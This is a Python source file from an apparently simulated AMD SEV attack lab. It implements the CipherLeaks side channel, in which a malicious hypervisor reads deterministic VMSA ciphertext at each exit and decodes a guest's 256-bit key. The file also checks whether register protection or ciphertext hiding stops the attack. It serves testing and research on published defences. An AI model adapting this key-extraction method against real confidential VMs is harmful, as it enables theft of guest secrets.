"""A10: CipherLeaks. The ciphertext of the VMSA, read at each exit, tells register values apart.

Under SEV-ES and SNP the CPU saves the guest's registers into its VMSA page at every #VMEXIT,
encrypted under the VM key with the page's SPA tweak: deterministic, so the same register
values at the same offset give the same 16 bytes of ciphertext every time. The hypervisor may
read that page (the RMP stops host writes, not reads). The victim runs constant-time code over
its key that holds the current key bit in R12 (R13 zero) whenever it writes to port 0x80;
after a public header whose bits the attacker knows, a dictionary of the two ciphertexts of
the R12/R13 block reads out every key bit.

What stops it: VmsaRegProt (a SEV_FEATURES bit the guest launches with) makes the CPU XOR the
saved registers with a fresh nonce at each save, so no ciphertext repeats; ciphertext hiding
(Genoa and later, enabled at SNP_INIT_EX) makes the host read 0xFF instead of the page.
Without an encrypted VMSA (no SEV, plain SEV) the registers sit in the clear in the VMCB
(A2), so the side channel has nothing to add.
"""

from __future__ import annotations

from sevsim.abi.ghcb import Ghcb
from sevsim.abi.svm import ExitCode, ioio_decode
from sevsim.abi.vmsa import OFFSETS
from sevsim.attacks.framework import Attack, Attempt, Setting
from sevsim.attacks.lab import Lab
from sevsim.attacks.toolkit import Vcpu, VmExit

HEADER = 0xA5  # the public byte the victim processes first, bit 0 first
BEACON_PORT = 0x80
KEY_BITS = 256
_PAGE = 4096
_BLOCK = OFFSETS["r12"][0] & ~0xF  # the 16-byte block holding R12 and R13


class CipherLeaks(Attack):
    """Build a ciphertext dictionary of the VMSA's R12 block and decode the key bits."""

    id = "A10"
    name = "CipherLeaks (VMSA ciphertext side channel)"
    actor = "malicious hypervisor"
    source = ("Li et al., 'CipherLeaks: Breaking Constant-time Cryptography on AMD SEV via the "
              "Ciphertext Side Channel', USENIX Security 2021; AMD-SB-1013, CVE-2020-12966")
    fixes = (Setting("snp", features=frozenset({"vmsa-reg-prot"})),
             Setting("snp", "genoa", frozenset({"ciphertext-hiding"})))

    def not_applicable(self, setting: Setting) -> str | None:
        """No encrypted VMSA below SEV-ES: the registers are host-readable anyway (A2)."""
        if setting.mode in ("none", "sev"):
            return (f"{setting.mode}: the registers are saved in the clear in the VMCB (A2); "
                    "there is no encrypted VMSA to read a side channel from")
        return None

    def attempt(self, lab: Lab) -> Attempt:
        """At each beacon exit, read the VMSA's R12 block; label the header's, decode the rest."""
        victim = lab.victim("ladder")
        samples: list[bytes] = []

        def at_exit(vcpu: Vcpu, exit: VmExit) -> None:
            ghcb_gpa = vcpu.vmcb.ghcb_gpa
            if exit.code is not ExitCode.VMGEXIT or ghcb_gpa % _PAGE or vcpu.vmsa_spa is None:
                return
            save = Ghcb.from_bytes(lab.hypervisor.read_gpa(victim.vm, ghcb_gpa, _PAGE)).save
            if save.get("sw_exit_code") != ExitCode.IOIO:
                return
            port, _, is_in = ioio_decode(save.get("sw_exit_info_1", 0))
            if port == BEACON_PORT and not is_in:  # the GHCB says which exit this is
                samples.append(lab.hypervisor.read_spa(vcpu.vmsa_spa + _BLOCK, 16))

        lab.hypervisor.on_exit(victim.vm, at_exit)
        victim.vm.run(timeout=60)
        lab.hypervisor.on_exit(victim.vm, None)
        lab.trace(f"read the VMSA's R12/R13 block (offset 0x{_BLOCK:x}) at {len(samples)} "
                  f"OUTs to port 0x{BEACON_PORT:x}; {len(set(samples))} distinct ciphertexts")
        header, body = samples[:8], samples[8:8 + KEY_BITS]
        dictionary: dict[bytes, int] = {}
        for i, block in enumerate(header):
            dictionary.setdefault(block, HEADER >> i & 1)
        lab.trace("dictionary from the public header 0xA5: " + ", ".join(
            f"{block.hex()[:16]}… → {bit}" for block, bit in dictionary.items()))
        bits = [dictionary.get(block) for block in body]
        unknown = sum(bit is None for bit in bits)
        value = sum((bit or 0) << i for i, bit in enumerate(bits))
        data = value.to_bytes(KEY_BITS // 8, "little")
        lab.trace(f"decoded {len(bits) - unknown} of {KEY_BITS} key bits from the dictionary")
        if len(set(header)) == 1 and len(header) == 8:
            saw = (f"every VMSA read gave the same bytes ({header[0].hex()[:16]}…): "
                   "ciphertext hiding")
        elif unknown:
            saw = (f"{unknown} of {len(bits)} saves gave a ciphertext never seen before: the "
                   "saved registers do not encrypt deterministically (VMSA register protection)")
        else:
            saw = "the dictionary decoded every bit, but not to the key"
        return Attempt(data, saw)
